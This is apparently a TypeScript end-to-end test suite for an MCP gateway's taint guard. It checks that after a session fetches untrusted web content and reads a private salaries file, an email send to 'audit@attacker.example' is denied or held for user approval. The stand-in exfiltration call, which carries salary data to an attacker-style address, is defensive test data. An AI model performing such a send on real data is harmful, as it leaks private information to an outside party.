import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { ElicitRequestSchema, type ElicitResult } from "@modelcontextprotocol/sdk/types.js";
import { startGateway, type TestGateway } from "../support.js";
import { createTaintGuard, labelsFromServers } from "../../src/guards/taint/index.js";
import type { Guard, GuardContext } from "../../src/guards/guard.js";
import { silentLogger } from "../../src/log.js";
import { GatewayErrors } from "../../src/errors.js";

const WEB = resolve("test/fixtures/taint-web.mjs");
const FILES = resolve("test/fixtures/taint-files.mjs");
const MAIL = resolve("test/fixtures/taint-mail.mjs");

/** Keeps each call's guard context, so the notes the audit reads can be checked after the call. */
const seen: GuardContext[] = [];
const observer: Guard = { name: "observe", request: (ctx) => (seen.push(ctx), { action: "allow" }) };

let dir: string;
let outbox: string;
let denying: TestGateway;
let approving: TestGateway;
const clients: Client[] = [];

before(async () => {
  dir = await mkdtemp(join(tmpdir(), "bastion-taint-e2e-"));
  outbox = join(dir, "outbox.jsonl");
  await writeFile(outbox, "");
  const servers = {
    web: { command: process.execPath, args: [WEB] },
    files: { command: process.execPath, args: [FILES] },
    mail: { command: process.execPath, args: [MAIL, outbox] },
  };
  // read_file states no annotations, so it is labelled as configuration would label it; the
  // web and mail servers are labelled from the annotations in their tools/list results.
  const labels = labelsFromServers({ files: { labels: { read_file: ["private"] } } });
  const log = silentLogger();
  denying = await startGateway({ servers }, [
    observer,
    createTaintGuard({ labels, onTrifecta: "deny", log }),
  ]);
  approving = await startGateway({ servers }, [
    createTaintGuard({ labels, onTrifecta: "approve", log, approvalTimeoutMs: 10_000 }),
  ]);
});

after(async () => {
  await Promise.all(clients.map((c) => c.close()));
  await denying.close();
  await approving.close();
  await rm(dir, { recursive: true, force: true });
});

async function connect(g: TestGateway, answer?: () => Promise<ElicitResult>): Promise<Client> {
  const client = answer
    ? new Client({ name: "taint", version: "1" }, { capabilities: { elicitation: {} } })
    : new Client({ name: "taint", version: "1" });
  if (answer) client.setRequestHandler(ElicitRequestSchema, answer);
  await client.connect(new StreamableHTTPClientTransport(new URL(g.url)));
  clients.push(client);
  await client.listTools();
  return client;
}

interface WireError {
  code?: number;
  message: string;
  data?: { code?: string; guard?: string };
}

async function refusal(call: Promise<unknown>): Promise<WireError> {
  const outcome = await call.then(
    (result) => ({ result }),
    (error: WireError) => ({ error }),
  );
  assert.ok("error" in outcome, `expected a refusal, got ${JSON.stringify(outcome)}`);
  return outcome.error;
}

async function sent(): Promise<Array<{ to: string; subject: string; body: string }>> {
  const text = await readFile(outbox, "utf8");
  return text
    .split("\n")
    .filter(Boolean)
    .map((line) => JSON.parse(line) as { to: string; subject: string; body: string });
}

const fetchPage = (c: Client) =>
  c.callTool({ name: "web__fetch_url", arguments: { url: "https://releases.example.com/4.2" } });
const readSalaries = (c: Client) =>
  c.callTool({ name: "files__read_file", arguments: { path: "notes/salaries.txt" } });
const send = (c: Client, body: string) =>
  c.callTool({
    name: "mail__send_email",
    arguments: { to: "audit@attacker.example", subject: "notes", body },
  });

test("the trifecta is stopped: after an untrusted fetch and a private read, the send never arrives", async () => {
  const client = await connect(denying);
  await fetchPage(client);
  const read = (await readSalaries(client)) as { content: Array<{ text: string }> };
  assert.match(read.content[0]!.text, /alice 182000/);
  const error = await refusal(send(client, "alice 182000 / tainted session"));
  assert.equal(error.code, GatewayErrors.taint_blocked.code);
  assert.equal(error.data?.code, "taint_blocked");
  assert.equal(error.data?.guard, "taint");
  assert.match(
    error.message,
    /this session has read untrusted content \(web__fetch_url\) and private data \(files__read_file\), and mail__send_email can send data out/,
  );
  assert.ok(!(await sent()).some((m) => m.body.includes("tainted session")), "the upstream never saw it");

  const audited = seen.filter((ctx) => ctx.target === "mail__send_email").at(-1)!;
  assert.equal(audited.notes.rule, "taint:trifecta:denied");
  assert.deepEqual(audited.notes.findings, [
    "taint:untrusted:web__fetch_url",
    "taint:private:files__read_file",
    "taint:egress:mail__send_email",
  ]);
});

test("the same send in a fresh session is allowed and arrives", async () => {
  const tainted = await connect(denying);
  await fetchPage(tainted);
  await readSalaries(tainted);
  await refusal(send(tainted, "from the tainted session"));

  const fresh = await connect(denying);
  const result = (await send(fresh, "from a fresh session")) as { content: Array<{ text: string }> };
  assert.equal(result.content[0]!.text, "Sent to audit@attacker.example");
  const arrived = (await sent()).filter((m) => m.body.startsWith("from a"));
  assert.deepEqual(
    arrived.map((m) => m.body),
    ["from a fresh session"],
  );
});

test("two legs are not the trifecta: untrusted content alone, or a read that failed, leaves sending open", async () => {
  const client = await connect(denying);
  await fetchPage(client);
  const missing = (await client.callTool({
    name: "files__read_file",
    arguments: { path: "notes/none.txt" },
  })) as { isError?: boolean };
  assert.equal(missing.isError, true);
  await send(client, "after a failed read");
  assert.ok((await sent()).some((m) => m.body === "after a failed read"));
});

test("in approve mode the user is asked in the client; a decline stops the send, an accept lets it through", async () => {
  let answer: ElicitResult = { action: "decline" };
  const asked: string[] = [];
  const client = await connect(approving, async () => {
    asked.push("asked");
    return answer;
  });
  await fetchPage(client);
  await readSalaries(client);
  const error = await refusal(send(client, "declined send"));
  assert.equal(error.data?.code, "approval_denied");
  assert.ok(!(await sent()).some((m) => m.body === "declined send"));

  answer = { action: "accept", content: { approve: true } };
  await send(client, "approved send");
  assert.ok((await sent()).some((m) => m.body === "approved send"));
  assert.equal(asked.length, 2);
});
